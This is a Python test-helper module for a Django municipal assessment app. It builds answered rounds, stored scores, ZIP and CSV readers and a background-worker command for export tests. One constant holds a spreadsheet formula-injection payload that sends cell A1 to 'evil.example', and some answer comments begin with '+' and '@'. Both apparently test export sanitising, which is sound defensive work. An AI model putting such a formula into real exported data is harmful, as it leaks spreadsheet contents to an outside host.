"""Rounds with answers and stored scores, for the export tests."""

import csv
import io
import os
import sys
import zipfile
from pathlib import Path

from django.db import connection

from assessments.coordination import consolidation_set
from assessments.models import Round
from municipalities.services import departments_create_defaults
from results.models import SnapshotTrigger
from results.snapshots import snapshots_refresh
from tests.assessment_factories import open_round
from tests.assessments.conftest import share_with_tax_office
from tests.results.test_benchmarks import make_round
from tests.results.test_snapshots import answer, make_tiny_round

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


def make_answered_round(personas, *, extra_indicators: int = 0, fiscal_year=2026) -> Round:
    """Municipality A's round: M-1 (std) shared with 税務課, M-2 (sec), plus `extra_indicators`.

    DX推進課 answers M-1 with level 2 (50 points) and a formula as comment;
    税務課 answers M-1 with level 4 (100), and the coordinator makes that the
    municipality's answer. M-2 is 該当しない with a reason. Scores are stored.
    """
    extra = [(f"X-{n:03d}", "std", 0) for n in range(1, extra_indicators + 1)]
    round_ = make_tiny_round(
        personas, [("M-1", "std", 0), ("M-2", "sec", 1), *extra], fiscal_year=fiscal_year
    )
    share_with_tax_office(round_, personas, ["M-1"])
    answer(
        round_,
        personas.department_a,
        "M-1",
        level=2,
        target_level=3,
        target_fiscal_year=fiscal_year + 3,
        comment=HYPERLINK,
        evidence_url="https://example.jp/plan.pdf",
    )
    chosen = answer(round_, personas.other_department_a, "M-1", level=4)
    answer(
        round_,
        personas.department_a,
        "M-2",
        not_applicable=True,
        not_applicable_reason="+対象の業務なし",
    )
    for code, _area, _stage in extra:
        answer(round_, personas.department_a, code, level=1, comment=f"@{code}")
    consolidation_set(
        round=round_,
        indicator=chosen.indicator,
        answer=chosen,
        note="税務課の回答が実態に近い",
        user=personas.coordinator_a,
    )
    snapshots_refresh(round=round_, trigger=SnapshotTrigger.RECOMPUTED)
    return round_


def make_results(personas, edition, *, scores=None, fiscal_year=2026) -> dict:
    """A round with a stored municipality score for A and B (the consultant's two)."""
    scores = scores or {"a": 40.0, "b": 70.0}
    municipalities = {"a": personas.municipality_a, "b": personas.municipality_b}
    return {
        key: make_round(
            municipalities[key], edition, personas.admin, score, fiscal_year=fiscal_year
        )
        for key, score in scores.items()
    }


def make_scored_round(municipality, edition, user) -> Round:
    """A real round of `municipality` with its default departments and stored scores (nothing answered)."""
    departments_create_defaults(municipality=municipality)
    round_ = open_round(municipality, user, edition=edition)
    snapshots_refresh(round=round_, trigger=SnapshotTrigger.RECOMPUTED)
    return round_


def zip_contents(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert len(names) == len(set(names)), names
        return {name: archive.read(name) for name in names}


def summary_rows(contents: dict[str, bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(contents["summary.csv"].decode("utf-8-sig"))))


def fake_render(round_) -> bytes:
    """A stand-in for the PDF renderer in tests of the job's bookkeeping (the real one is slow).

    The real renderer is used by test_bulk_real_report, the worker-kill test and the browser test.
    """
    return f"%PDF-1.7\n% report of {round_.municipality.code} round {round_.pk}\n%%EOF\n".encode()


# --- a real `manage.py db_worker` process against the test database -----------------------------

PROJECT_ROOT = Path(__file__).resolve().parents[2]  # the subprocess's working directory


def database_url() -> str:
    """The test database as DATABASE_URL (a file for SQLite, test_… on PostgreSQL)."""
    database = connection.settings_dict
    if connection.vendor == "sqlite":
        return f"sqlite:///{database['NAME']}"
    password = f":{database['PASSWORD']}" if database.get("PASSWORD") else ""
    host = database.get("HOST") or "127.0.0.1"
    port = database.get("PORT") or 5432
    return f"postgres://{database['USER']}{password}@{host}:{port}/{database['NAME']}"


def worker_env(**extra: str) -> dict[str, str]:
    return {**os.environ, "DJANGO_ENV": "development", "DATABASE_URL": database_url(), **extra}


def worker_command(*options: str) -> list[str]:
    return [
        sys.executable,
        "manage.py",
        "db_worker",
        "--no-reload",
        "--no-startup-delay",
        "--interval",
        "0.1",
        "--verbosity",
        "0",
        *options,
    ]
